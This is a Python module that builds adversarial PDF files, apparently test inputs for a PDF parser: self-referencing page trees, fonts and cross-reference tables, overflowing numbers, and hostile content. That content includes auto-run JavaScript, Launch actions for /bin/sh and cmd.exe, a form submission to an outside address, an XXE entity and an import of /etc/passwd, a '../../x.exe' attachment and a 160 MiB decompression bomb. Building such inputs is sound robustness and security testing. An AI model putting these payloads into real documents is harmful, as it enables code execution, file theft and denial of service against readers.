"""Files of .pdf that want something done, or lead in circles: scripts, addresses, files in files, objects in themselves."""

from __future__ import annotations

import zlib

from generators.pdf_objects import CATALOGUE, FONT, ONE, file_of, one_page, packed_file_of, page_of, stream_of, text_of

MEBI = 1 << 20
_FAR = b"9" * 60 + b".0"
"""more than a number of 32 bits can hold; without the point it would be cut to the largest integer"""


def tree_of_itself() -> bytes:
    """A page that is a kid of itself, and its parent."""
    tree = b"<</Type/Pages/Kids[2 0 R 3 0 R]/Count 1000000000/Parent 2 0 R>>"
    return file_of(CATALOGUE, tree, page_of(), stream_of(text_of(b"x")), FONT)


def tree_doubling() -> bytes:
    """30 levels of page trees, each naming the next twice: a thousand million pages."""
    nodes = [b"<</Type/Pages/Kids[%d 0 R %d 0 R]/Count %d>>" % (n + 6, n + 6, 1 << (30 - n)) for n in range(30)]
    return file_of(
        b"<</Type/Catalog/Pages 6 0 R>>", ONE, page_of(), stream_of(text_of(b"x")), FONT, *nodes,
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
    )


def inherited_in_a_circle() -> bytes:
    """A page without resources whose parents, asked for them, send round in a circle."""
    page = b"<</Type/Page/Parent 6 0 R/Contents 4 0 R>>"
    parents = b"<</Type/Pages/Parent 7 0 R>>", b"<</Type/Pages/Parent 6 0 R>>"
    return file_of(CATALOGUE, ONE, page, stream_of(text_of(b"x")), FONT, *parents)


def contents_of_itself() -> bytes:
    """Contents that are an array that holds itself, and a stream whose length is the stream."""
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 6 0 R/Resources<</Font<</F1 5 0 R>>>>>>"
    looped = b"<</Length 4 0 R>>stream\n" + text_of(b"x") + b"\nendstream"
    return file_of(CATALOGUE, ONE, page, looped, FONT, b"[6 0 R 4 0 R 6 0 R]")


def box_not_a_number() -> bytes:
    """Paper, matrices and text sizes that are no numbers."""
    orders = b"nan inf -inf 1e999 0 0 cm " + text_of(b"text")
    return one_page(orders, box=b"[nan inf -inf 1e400]", more=b"/UserUnit nan/Rotate inf")


def objects_packed_in_packed() -> bytes:
    """Objects that stand in a stream of objects that stands in a stream of objects, which is itself."""
    inner = b"6 0 7 20 <</Type/ObjStm>>    <</A 6 0 R>>"
    packed = stream_of(zlib.compress(inner), b"/Type/ObjStm/N 2/First 9/Filter/FlateDecode/Extends 6 0 R")
    return packed_file_of((CATALOGUE, ONE, page_of(), stream_of(text_of(b"text")), FONT, packed), {6: (2, 6, 0), 7: (2, 6, 1)})


def directory_in_a_circle() -> bytes:
    """Three directories, each older than the next, the last older than the first."""
    data = one_page(text_of(b"text"))
    at = data.rfind(b"xref\n", 0, data.rfind(b"startxref"))
    second = len(data)
    data += b"xref\n0 0\ntrailer\n<</Size 6/Root 1 0 R/Prev %d>>\n" % at
    data = data.replace(b"trailer\n<<", b"trailer\n<</Prev %d/XRefStm %d" % (second, at), 1)
    return data + b"startxref\n%d\n%%%%EOF\n" % second


def table_of_a_font_of_itself() -> bytes:
    """A table of characters that uses itself."""
    font = b"<</Type/Font/Subtype/Type0/BaseFont/X/Encoding 6 0 R/DescendantFonts[5 0 R]/ToUnicode 6 0 R>>"
    table = stream_of(b"begincmap endcmap", b"/Type/CMap/UseCMap 6 0 R")
    return file_of(CATALOGUE, ONE, page_of(), stream_of(text_of(b"ABC")), font, table)


def font_of_itself() -> bytes:
    """A font whose letters are drawn in the font itself."""
    font = b"<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[1 0 0 1 0 0]/FirstChar 65/LastChar 66/Widths[9 9]" \
           b"/Encoding<</Differences[65/A/B]>>/CharProcs<</A 6 0 R/B 6 0 R>>/Resources<</Font<</F1 5 0 R>>>>>>"
    return file_of(CATALOGUE, ONE, page_of(), stream_of(text_of(b"ABAB")), font, stream_of(b"9 0 d0 " + text_of(b"AB") * 2))


def font_of_letters_in_letters() -> bytes:
    """20 such fonts, each drawn in the next, ten letters a letter."""
    fonts = []
    for n in range(20):
        at = 5 + 2 * n
        fonts.append(
            b"<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[1 0 0 1 0 0]/FirstChar 65/LastChar 65/Widths[9]"
            b"/Encoding<</Differences[65/A]>>/CharProcs<</A %d 0 R>>/Resources<</Font<</F1 %d 0 R>>>>>>" % (at + 1, at + 2),
        )
        fonts.append(stream_of(b"9 0 d0 " + text_of(b"A" * 10)))
    return file_of(CATALOGUE, ONE, page_of(), stream_of(text_of(b"A" * 10)), *fonts, FONT)


def patterns_of_themselves() -> bytes:
    """A pattern painted with itself, and a mask that masks itself."""
    resources = b"/Resources<</Font<</F1 5 0 R>>/Pattern<</P 6 0 R>>/ExtGState<</G 7 0 R>>>>"
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R" + resources + b">>"
    paint = b"/G gs /Pattern cs /P scn 0 0 500 500 re f "
    pattern = b"/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 1 1]/XStep 0.0001/YStep 0/Subtype/Form" + resources
    return file_of(
        CATALOGUE, ONE, page, stream_of(paint + text_of(b"text")), FONT, stream_of(paint, pattern),
        b"<</SMask<</S/Alpha/G 6 0 R>>>>",
    )


def box_endless() -> bytes:
    """Paper whose size is more than a number can hold, with two columns of text."""
    lines = b"".join(b"BT /F1 12 Tf 72 %d Td (Line of text) Tj ET " % y for y in range(100, 700, 20))
    return one_page(lines, box=b"[0 0 " + _FAR + b" 842]")


def text_endless() -> bytes:
    """Characters whose size and direction are more than a number can hold, upright and turned, among sound ones."""
    orders = b"".join(
        b"q %s%s%s 0 0 cm BT /F1 12 Tf %s%s%s 9 9 Tm (endless) Tj ET Q " % ((_FAR, middle, _FAR) * 2)
        for middle in (b" 0 0 ", b" 1 1 ", b" -1 %s " % _FAR)
    )
    return one_page(orders + b"BT 0 1 -1 0 9 9 Tm /F1 12 Tf (turned) Tj ET " + text_of(b"text"))


def lines_endless() -> bytes:
    """Ruled lines that lead out of all numbers."""
    return one_page(b"q %s 0 0 1 0 0 cm 0 9 m %s 9 l S 0 0 m 0 %s l S 9 9 %s 0 re S Q " % ((_FAR,) * 4) + text_of(b"text"))


def actions() -> bytes:
    """Everything that a viewer would do when it opens the file: scripts, programs, addresses, sounds, forms sent away."""
    script = b"<</S/JavaScript/JS(app.launchURL\\('http://192.0.2.1/'\\);while\\(1\\);)/Next 6 0 R>>"
    launch = b"<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(/c calc)>>/Next 7 0 R>>"
    address = b"<</S/URI/URI(http://192.0.2.1/)/Next 8 0 R>>"
    sent = b"<</S/SubmitForm/F(http://192.0.2.1/)/Next<</S/GoToR/F(\\\\\\\\192.0.2.1\\\\x.pdf)/D[0/Fit]/Next 9 0 R>>>>"
    imported = b"<</S/ImportData/F(/etc/passwd)/Next 6 0 R>>"
    note = b"<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A 6 0 R/AA<</PO 7 0 R/PV 6 0 R>>>>"
    return file_of(
        b"<</Type/Catalog/Pages 2 0 R/OpenAction 6 0 R/AA<</WC 6 0 R/WS 7 0 R>>/Names<</JavaScript<</Names[(a)6 0 R]>>>>>>",
        ONE, page_of(b"/Annots[11 0 R]/AA<</O 6 0 R/C 7 0 R>>"), stream_of(text_of(b"text")), FONT,
        script, launch, address, sent, imported, note,
    )


def attachments() -> bytes:
    """Files in the file, to be opened and unpacked: a program, the file itself by address, a bomb."""
    bomb = stream_of(zlib.compress(b"\0" * (160 * MEBI), 9), b"/Type/EmbeddedFile/Filter/FlateDecode")
    return file_of(
        b"<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles<</Names[(../../x.exe)6 0 R]>>>>/Collection<</View/T>>>>",
        ONE, page_of(), stream_of(text_of(b"text")), FONT,
        b"<</Type/Filespec/F(../../x.exe)/FS/URL/EF<</F 7 0 R>>>>", bomb,
    )


def contents_outside() -> bytes:
    """Drawing orders that stand in another file."""
    return file_of(CATALOGUE, ONE, page_of(), stream_of(b"", b"/F(/etc/passwd)/FFilter/ASCIIHexDecode"), FONT)


def forms_of_xml() -> bytes:
    """A form of XML (XFA) with entities, scripts and a template elsewhere."""
    xfa = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template>&e;' \
          b'<event activity="initialize"><script>app.alert(1)</script></event></template></xdp:xdp>'
    field = b"<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/V(=1+1)/Rect[72 500 300 520]/DA(/F1 12 Tf)" \
            b"/AA<</K<</S/JavaScript/JS(x)>>>>>>"
    return file_of(
        b"<</Type/Catalog/Pages 2 0 R/AcroForm<</XFA 6 0 R/Fields[7 0 R]/NeedAppearances true/DR<</Font<</F1 5 0 R>>>>>>>>",
        ONE, page_of(b"/Annots[7 0 R]"), stream_of(text_of(b"text")), FONT, stream_of(xfa), field,
    )


def outlines_in_a_circle() -> bytes:
    """Bookmarks, names, labels and a structure that refer to each other in circles."""
    loop = b"<</First 6 0 R/Last 6 0 R/Next 6 0 R/Parent 6 0 R/Kids[6 0 R]/K[6 0 R]/Nums[0 6 0 R]/S/P/Title(x)>>"
    return file_of(
        b"<</Type/Catalog/Pages 2 0 R/Outlines 6 0 R/Names<</Dests 6 0 R>>/PageLabels 6 0 R"
        b"/StructTreeRoot 6 0 R/MarkInfo<</Marked true>>>>",
        ONE, page_of(b"/StructParents 0"), stream_of(b"/P<</MCID 0>>BDC " + text_of(b"text") + b" EMC"), FONT, loop,
    )


def number_of_itself() -> bytes:
    """Objects that are nothing but references to each other."""
    return file_of(CATALOGUE, b"<</Type/Pages/Kids 6 0 R/Count 7 0 R>>", page_of(), stream_of(b""), FONT, b"7 0 R", b"6 0 R")
